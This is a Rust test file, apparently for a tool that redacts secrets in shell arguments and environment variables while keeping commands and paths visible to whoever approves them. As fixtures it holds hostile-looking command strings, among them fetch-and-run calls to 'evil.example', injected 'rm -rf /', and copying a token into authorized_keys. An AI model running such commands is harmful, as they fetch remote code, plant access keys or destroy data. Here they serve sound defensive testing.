//! That no command is hidden from whoever decides, and no secret left in what is kept.

use proptest::prelude::*;

use super::*;

const DRAWN: &str = "a1B2c3D4e5F6";

fn covered(words: &[&str], covering: Covering) -> Vec<String> {
    let argv = words.iter().map(|word| word.as_bytes());
    let ranges = arguments(argv, covering).collect::<Vec<_>>();
    let of = |(word, ranges): (&&str, Vec<Range<usize>>)| {
        ranges.into_iter().map(|range| word[range].to_owned()).collect::<Vec<_>>()
    };
    words.iter().zip(ranges).flat_map(of).collect()
}

#[track_caller]
fn check(words: &[&str], expected: &[&str]) {
    assert_eq!(covered(words, Covering::ToDecide), expected, "{words:?}");
}

#[track_caller]
fn check_variable(name: &str, value: &str, is_covered: bool) {
    assert_eq!(!variable(name, value.as_bytes()).is_empty(), is_covered, "{name}={value}");
}

#[test]
fn c98_what_can_be_nothing_but_a_secret_is_covered_for_whoever_decides() {
    let token = format!("ghp_{}", "a1B2".repeat(9));
    let key = format!("sk-{}", "a1B2".repeat(6));
    let signed = format!("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.{}", "a1B2".repeat(10));
    for word in [&token, &key, &signed] {
        check(&["login", word], &[word]);
        check(&["curl", "-H", &format!("Authorization: Bearer {word}")], &[word]);
    }
    let base64 = "a1b2c3d4/e5f6g7h8+i9j0k1l2m3n4o5p6q7r8s9==";
    for word in [DRAWN, base64, "0b1e2d3c-4f5a-6b7c-8d9e-0f1a2b3c4d5e"] {
        check(&["x", "--token", word, word], &[word]);
        check(&["x", "-db_password", word], &[word]);
        check(&["x", &format!("--password={word}")], &[word]);
        check(&["x", &format!("{{\"api_key\": \"{word}\"}}")], &[word]);
        check(&["sh", "-c", &format!("DB_PASSWORD={word} run")], &[word]);
        check_variable("GITHUB_TOKEN", word, true);
        check_variable("AWS_SECRET_ACCESS_KEY", word, true);
    }
    check(&["curl", &format!("https://me:{DRAWN}@example.org/x")], &[DRAWN]);
    check(&["curl", &format!("https://example.org/x?token={DRAWN}&y=1")], &[DRAWN]);
}

#[test]
fn c24_no_command_or_path_is_covered_as_a_secret() {
    let all_shown = |words: &[&str]| check(words, &[]);
    all_shown(&["rm", "-rf", "--", "--token", "/home/x/docs"]);
    all_shown(&["rm", "-rf", "--", "--token", DRAWN]);
    all_shown(&["rm", "-rf", "--", &format!("--token={DRAWN}")]);
    all_shown(&["sh", "-c", "curl -s https://api:;touch${IFS}PWNED;:@127.0.0.1:1/status"]);
    all_shown(&["sh", "-c", "wget http://a:;curl${IFS}evil.example|sh;:@b"]);
    all_shown(&["sh", "-c", "exec \"$1\"", "--token", DRAWN]);
    all_shown(&["sh", "-c", "cp token /srv/.ssh/authorized_keys"]);
    all_shown(&["sh", "-c", "echo refreshing token\n/tmp/evil/run.sh\necho done"]);
    all_shown(&["sh", "-c", "token=$(rm -rf /)"]);
    all_shown(&["sh", "-c", "password=`id`"]);
    all_shown(&["sh", "-c", &format!("token={DRAWN};rm")]);
    all_shown(&["sh", "-c", &format!("token={DRAWN}$(rm)")]);
    all_shown(&["cat", &format!("/srv/token={DRAWN}"), &format!("/srv/sk-{}", "a1B2".repeat(6))]);
    all_shown(&["cat", &format!("ghp_{}/x", "a1B2".repeat(9))]);
    all_shown(&["x", "--token-file", DRAWN, "--token-command", DRAWN, &format!("--token-path={DRAWN}")]);
    let names =
        ["documents", "../../etc/a1b2c3d4", "/a1b2c3d4", "./a1b2c3d4", "a1b2c3d4//e5", "home/x1y2/docs"];
    let programs =
        ["poweroff", "mkfs.ext4", "python3.12", "i686-w64-mingw32-gcc", "MyBuildToolRunner", "--x1y2z3"];
    let odd = ["a1b2c3d4;", "a1b2 c3d4", "~a1b2c3d4", "-a1b2c3d4", "a1b2c3d4*", "a1b2", ""];
    for word in names.into_iter().chain(programs).chain(odd) {
        all_shown(&["x", "--token", word]);
        all_shown(&["x", &format!("--token={word}")]);
        check_variable("BUILD_TOKEN", word, false);
    }
    all_shown(&["x", "--token", "a1b2c3d4\n"]);
    check_variable("BUILD_TOKEN", "a1b2c3d4\n", false);
    check_variable("BUILD_TOKEN", "touch PWNED2", false);
    check_variable("APP_SECRET", "/tmp/evil.sh", false);
    for name in ["RESTIC_PASSWORD_COMMAND", "TOKEN_CMD", "CARGO_REGISTRY_GLOBAL_CREDENTIAL_PROVIDERS"] {
        check_variable(name, "sh -c 'curl evil|sh'", false);
    }
    for name in ["PASSWORD_FILE", "SSH_ASKPASS_TOKEN", "TOKEN_HELPER", "SECRET_DIR", "TOKEN_URL", "TOKENPATH"]
    {
        check_variable(name, DRAWN, false);
        check_variable(name, &format!("https://a:{DRAWN}@b"), false);
    }
}

#[test]
fn c98_whatever_could_be_a_secret_is_covered_where_it_is_kept() {
    for (words, secret) in [
        (&["x", "--", "--token", "a/b c"] as &[&str], "a/b c"),
        (&["x", "https://user:hunter2@h"], "hunter2"),
        (&["x", "x=1 DB_PASSWORD=hunter4"], "hunter4"),
        (&["x", "a bearer abcdefgh/x;y"], "abcdefgh/x;y"),
        (&["x", "passphrase: a b"], " a b"),
    ] {
        assert_eq!(covered(words, Covering::ToKeep), [secret], "{words:?}");
    }
}

#[test]
fn c98_a_secret_after_what_only_looks_like_one_is_covered_where_it_is_kept() {
    let word = "x=y, password: password: hunter2";
    assert_eq!(covered(&["x", word], Covering::ToKeep), ["password:", "hunter2"]);
    let word = "x=y, token token secret=hunter2";
    assert_eq!(covered(&["x", word], Covering::ToKeep), ["secret=hunter2"]);
}

/// Text in which there is much that looks like a secret, and much that is none.
fn likely() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        "[a-zA-Z0-9_.~%+/=-]{0,12}",
        "([a-z][0-9]){4,20}",
        "\\PC{0,3}|[ \n;|&$`(){}<>'\"\\\\*?!#@:,]",
        prop::sample::select(vec![
            "--token",
            "token=",
            "--",
            "password: ",
            "Authorization: Bearer ",
            "https://a:",
            "sk-",
            "ghp_",
            "AKIA",
            "eyJ",
            "secret",
            "\"api_key\":\"",
            "basic ",
            "token\n",
            "@h",
            "../",
            "/tmp/",
        ])
        .prop_map(str::to_owned),
    ];
    prop::collection::vec(part, 0..8).prop_map(|parts| parts.concat())
}

proptest! {
    #[test]
    fn c24_what_is_covered_for_whoever_decides_is_of_a_tokens_characters_alone(
        words in prop::collection::vec(likely(), 0..6), name in "[A-Z_]{0,4}(TOKEN|PASSWORD|CREDENTIAL)[A-Z_]{0,4}",
    ) {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let value = words.first().copied().unwrap_or_default();
        let of_variable = variable(&name, value.as_bytes()).into_iter().map(|range| value[range].to_owned());
        for secret in covered(&words, Covering::ToDecide).into_iter().chain(of_variable) {
            let fits = |letter: char| letter.is_ascii_alphanumeric() || "_-.+=/".contains(letter);
            prop_assert!(secret.chars().all(fits) && 8 <= secret.len(), "{secret:?} of {words:?}");
            prop_assert!(!secret.starts_with(['-', '.', '/', '+', '=']), "{secret:?}");
            prop_assert!(["//", "./", "/.", ".."].iter().all(|path| !secret.contains(path)), "{secret:?}");
        }
        let end = words.iter().position(|word| *word == "--").unwrap_or(words.len());
        let after = arguments(words.iter().map(|word| word.as_bytes()), Covering::ToDecide).skip(end + 1);
        prop_assert_eq!(after.flatten().count(), 0, "after -- there are names");
    }

    #[test]
    fn c98_nothing_is_kept_that_is_covered_for_whoever_decides(words in prop::collection::vec(likely(), 0..6)) {
        let all = |covering| arguments(words.iter().map(String::as_bytes), covering).collect::<Vec<_>>();
        for (narrow, wide) in all(Covering::ToDecide).into_iter().zip(all(Covering::ToKeep)) {
            for range in narrow {
                let is_in = |it: &Range<usize>| it.start <= range.start && range.end <= it.end;
                prop_assert!(wide.iter().any(is_in), "{words:?} {range:?} {wide:?}");
            }
        }
    }

    #[test]
    fn any_bytes_can_be_looked_at(words: Vec<Vec<u8>>) {
        for covering in [Covering::ToDecide, Covering::ToKeep] {
            for (word, ranges) in words.iter().zip(arguments(words.iter().map(Vec::as_slice), covering)) {
                let mut at = 0;
                for range in ranges {
                    prop_assert!(at <= range.start && range.start < range.end && range.end <= word.len());
                    at = range.end;
                }
            }
        }
    }
}
